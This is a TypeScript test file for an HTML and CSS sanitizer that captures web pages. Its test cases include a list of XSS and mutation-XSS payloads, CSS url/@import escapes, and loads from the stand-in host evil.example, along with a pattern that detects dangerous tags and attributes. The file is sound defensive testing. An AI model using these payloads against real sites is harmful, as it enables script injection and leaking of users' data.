import * as fc from 'fast-check'
import { parseHTML } from 'linkedom'
import { describe, expect, it } from 'vitest'
import { capturedPage } from './captured-page.js'
import { safeCss } from './safe-css.js'

/** What a page made safe could still do; empty where it can do nothing. */
function dangers(html: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`)
  return [...document.querySelectorAll('*')].flatMap(element => {
    const name = element.localName.toLowerCase()
    const attributes = [...element.attributes].flatMap(({ name: attribute, value }) =>
      /^on|^(?:src|href|srcset|action|formaction|poster|background|data|http-equiv|srcdoc|ping|xlink:href|id|name)$/iu.test(
        attribute,
      ) && !(name === 'img' && attribute === 'src' && value.startsWith('data:image/png'))
        ? [`${name}@${attribute}`]
        : [],
    )
    const forbidden =
      /^(?:script|style|link|meta|base|iframe|frame|object|embed|svg|math|form|input|button|textarea|select|template|noscript|video|audio)$/u
    return forbidden.test(name) ? [name, ...attributes] : attributes
  })
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" alt="tracker">',
  '<img srcset="https://evil.example/a.png 2x" src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="https://evil.example/" ping="https://evil.example/p" target="_top">link</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/">',
  '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">send</button></form>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="//evil.example">',
  '<body onload=alert(1)><p>text</p>',
  '<div style="background:url(https://evil.example/x.png)">text</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<p title="&quot;><img src=x onerror=alert(1)>">text</p>',
  '<p class="&quot; onmouseover=&quot;alert(1)">text</p>',
  '<table background="https://evil.example/x.png"><tr><td background="x">text</td></tr></table>',
  '<video poster="https://evil.example/" src="https://evil.example/v.mp4"></video>',
  '<x-frame src="https://evil.example/" onclick="alert(1)">text</x-frame>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="data:text/html,<script>alert(1)</script>">link</a>',
  '<img/src=x/onerror=alert(1)>',
  '<p\u0000 onclick=alert(1)>text',
]

/* These do harm only to who writes them out again without escapes. */
const HARMLESS_AS_THEY_STAND = new Set([
  '<p title="&quot;><img src=x onerror=alert(1)>">text</p>',
  '<p class="&quot; onmouseover=&quot;alert(1)">text</p>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
])

const LOADS = /url\s*\(|<script|srcset/iu

describe('capturedPage', () => {
  it.each(ATTACKS)('leaves nothing that runs or loads of %s, and the words around it', attack => {
    const { body, css } = capturedPage(`<p>before</p>${attack}<p>after</p>`)
    expect(dangers(body)).toEqual([])
    expect(`${body}${css}`).not.toMatch(LOADS)
    expect(body).toContain('before')
    expect(body).toContain('after')
  })

  it.each(ATTACKS)('would be found out if it left %s', attack => {
    const isFound = dangers(attack).length > 0 || LOADS.test(attack)
    expect(isFound).toBe(!HARMLESS_AS_THEY_STAND.has(attack))
  })

  it('leaves nothing that runs, however pieces of attacks are put together', () => {
    const pieces = fc.array(
      fc.constantFrom(
        ...ATTACKS,
        '<',
        '>',
        '"',
        "'",
        '<!--',
        '-->',
        '</style>',
        '<style>',
        '</svg>',
        '<p ',
        '/>',
        '&lt;img src=x onerror=alert(1)&gt;',
      ),
      { maxLength: 8 },
    )
    fc.assert(
      fc.property(pieces, some => {
        const { body, css } = capturedPage(some.join(''))
        expect(dangers(body)).toEqual([])
        expect(css).not.toContain('<')
      }),
      { numRuns: 300 },
    )
  })

  it('keeps words, structure, languages, and styles of the page itself', () => {
    const page = capturedPage(
      '<html lang="ar" dir="rtl"><head><style>p{color:#333}</style></head><body><h1>عنوان</h1><p lang="en" style="margin:0">She <em>wrote</em>: “No.”</p></body></html>',
    )
    expect(page).toEqual({
      body: '<h1>عنوان</h1><p lang="en" style="margin:0">She <em>wrote</em>: “No.”</p>',
      css: 'p{color:#333}',
      language: 'ar',
      direction: 'rtl',
    })
  })

  it.each([
    ['<p>The sum is <math><mi>x</p><p>after', '<p>The sum is x</p><p>after</p>'],
    ['<svg><g><p>after</p>', '<p>after</p>'],
    ['<video><p>after</p>', '<p>after</p>'],
    ['<svg><text>label</text></svg><p>after</p>', '<p>after</p>'],
    ['<svg><style>p{}</style><script>alert(1)</script><p>after</p>', '<p>after</p>'],
    ['<script>alert(1)<p>after</p>', ''],
  ])('shows what follows an element that is left open: %s', (source, shown) => {
    expect(capturedPage(source).body).toBe(shown)
  })

  it('says where a link led, and keeps a picture that is part of the page', () => {
    const { body } = capturedPage(
      '<a href="https://news.example/a?b=1&amp;c=2">report</a><img alt="seal" src="data:image/png;base64,iVBORw0KGgo=">',
    )
    expect(body).toBe(
      '<a title="Led to https://news.example/a?b=1&amp;c=2">report</a><img src="data:image/png;base64,iVBORw0KGgo=" alt="seal">',
    )
  })
})

describe('safeCss', () => {
  it.each([
    'p{background:url(https://evil.example/x)}',
    'p{background:u\\72l(https://evil.example/x)}',
    'p{background:\\75\\72\\6c(https://evil.example/x)}',
    'p{background:ur/**/l(https://evil.example/x)}',
    '@import "https://evil.example/x.css";p{color:red}',
    '@im\\70ort "https://evil.example/x.css";',
    '@font-face{font-family:x;src:url(https://evil.example/f)}',
    'p{behavior:url(x.htc)}',
    'p{width:expression(alert(1))}',
    'p{background:-webkit-image-set(url(https://evil.example/x) 1x)}',
    '</style><script>alert(1)</script>',
    'p{background:url(https://evil.example/x',
  ])('takes the teeth out of %s', css => {
    expect(safeCss(css)).not.toMatch(/url\s*\(|@import|expression|behavior:|<|@font-face/iu)
  })

  it('leaves plain styles as they are', () => {
    const css = 'h1 { font: 700 2rem/1.2 Georgia; } q::before { content: "\\201C "; }'
    expect(safeCss(css)).toBe(css)
  })
})
